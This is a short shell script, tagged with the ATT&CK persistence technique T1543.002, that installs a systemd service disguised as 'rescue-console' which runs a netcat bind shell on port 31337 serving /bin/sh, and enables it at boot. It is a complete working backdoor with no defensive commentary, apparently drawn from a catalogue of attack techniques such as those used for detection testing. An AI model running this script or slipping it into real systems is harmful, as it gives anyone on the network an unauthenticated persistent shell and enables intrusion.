# technique: T1543.002
# location: linux.systemd.service
# source: /usr/local/lib/systemd/system/rescue-console.service
mkdir -p /usr/local/lib/systemd/system
printf '[Service]\nExecStart=/bin/busybox nc -ll -p 31337 -e /bin/sh\n[Install]\nWantedBy=multi-user.target\n' \
    > /usr/local/lib/systemd/system/rescue-console.service
systemctl enable rescue-console.service
